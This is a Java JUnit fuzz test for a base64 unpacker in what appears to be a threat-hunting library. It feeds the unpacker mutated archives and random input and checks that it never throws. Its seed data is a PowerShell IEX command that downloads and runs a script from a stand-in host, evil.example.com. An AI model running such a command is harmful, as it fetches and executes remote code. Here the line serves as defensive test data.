package dev.hunt4j.analysis.b64;

import static org.junit.jupiter.api.Assertions.assertNotNull;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.nio.charset.StandardCharsets;
import java.util.Arrays;
import java.util.Base64;
import java.util.List;
import java.util.Map;
import java.util.Random;
import org.junit.jupiter.api.Test;

/** Corrupted archives, random bytes and random text, base64-encoded: unpacking must never throw. */
class Base64FuzzTest {
    private static final int CASES = 2_000;

    @Test
    void corruptedInputNeverThrows() throws Exception {
        Random r = new Random(0xB64L);
        byte[] text = "powershell IEX http://evil.example.com/x.ps1 ".repeat(20).getBytes(StandardCharsets.UTF_8);
        List<byte[]> seeds = List.of(
                Base64UnpackerTest.gzip(text),
                Base64UnpackerTest.zip(Map.of("a.txt", text, "b.bin", new byte[300], "c.gz", Base64UnpackerTest.gzip(text))),
                Base64UnpackerTest.tar(Map.of("a.txt", text, "b.txt", Base64.getEncoder().encode(text))),
                Base64UnpackerTest.deflate(text, false),
                Base64UnpackerTest.deflate(text, true),
                new String(text, StandardCharsets.UTF_8).getBytes(StandardCharsets.UTF_16LE));
        Base64Unpacker u = Base64Unpacker.builder().maxTotalBytes(8L << 20).build();
        long start = System.nanoTime();
        for (int n = 0; n < CASES; n++) {
            String input;
            switch (n % 4) {
                case 0 -> input = "x " + Base64.getEncoder().encodeToString(mutate(r, seeds.get(r.nextInt(seeds.size()))));
                case 1 -> input = Base64.getEncoder().encodeToString(randomBytes(r));
                case 2 -> input = randomB64Text(r);
                default -> {
                    String enc = Base64.getMimeEncoder().encodeToString(mutate(r, seeds.get(r.nextInt(seeds.size()))));
                    int cut = r.nextInt(enc.length() + 1);
                    input = "data:" + enc.substring(0, cut) + (r.nextBoolean() ? "==" : "") + enc.substring(cut, Math.min(enc.length(), cut + r.nextInt(50)));
                }
            }
            UnpackResult res = u.unpack(input);
            assertNotNull(res.fullyDecodedText());
            res.items().forEach(i -> assertTrue(i.status().equals("ok") || i.status().startsWith("limit reached")
                    || i.status().startsWith("error"), i.status()));
        }
        long ms = (System.nanoTime() - start) / 1_000_000;
        System.out.println("b64 fuzz: " + CASES + " inputs in " + ms + " ms");
        assertTrue(ms < 10_000, "fuzzing took " + ms + " ms");
    }

    private static byte[] mutate(Random r, byte[] seed) {
        byte[] b = Arrays.copyOf(seed, r.nextInt(4) == 0 ? r.nextInt(seed.length + 1) : seed.length);
        int flips = r.nextInt(6);
        for (int i = 0; i < flips && b.length > 0; i++) {
            b[r.nextInt(b.length)] = (byte) r.nextInt(256);
        }
        return b;
    }

    private static byte[] randomBytes(Random r) {
        byte[] b = new byte[r.nextInt(600)];
        r.nextBytes(b);
        if (b.length > 4 && r.nextBoolean()) {
            byte[][] magics = {{'P', 'K', 3, 4}, {0x1F, (byte) 0x8B, 8, 0}, {0x78, (byte) 0x9C, 0, 0}, {'M', 'Z', 0, 0}};
            byte[] m = magics[r.nextInt(magics.length)];
            System.arraycopy(m, 0, b, 0, 4);
        }
        return b;
    }

    private static String randomB64Text(Random r) {
        String alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/-_=\r\n :.";
        StringBuilder sb = new StringBuilder();
        int len = r.nextInt(800);
        for (int i = 0; i < len; i++) {
            sb.append(alphabet.charAt(r.nextInt(alphabet.length())));
        }
        return sb.toString();
    }
}
